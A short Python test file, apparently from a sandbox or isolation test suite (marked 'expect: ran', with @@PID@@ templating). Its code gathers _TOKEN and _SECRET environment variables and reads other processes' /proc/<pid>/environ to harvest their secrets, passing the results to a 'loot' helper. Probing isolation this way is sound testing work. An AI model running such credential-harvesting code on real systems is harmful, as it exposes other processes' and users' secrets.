"""Tokens in its own environment, and in other processes' by way of /proc."""

# expect: ran

import glob
import os


def secrets():
    found = {k: v for k, v in os.environ.items() if k.endswith(("_TOKEN", "_SECRET"))}
    for path in glob.glob("/proc/[0-9]*/environ"):
        if path.split("/")[2] == str(os.getpid()):
            continue
        try:
            found[path] = open(path, "rb").read() or 1 / 0
        except (OSError, ZeroDivisionError):
            pass
    return found or 1 / 0

loot(secrets, lambda: open("/proc/@@PARENT@@/environ").read(), lambda: open("/proc/@@PID@@/environ").read())
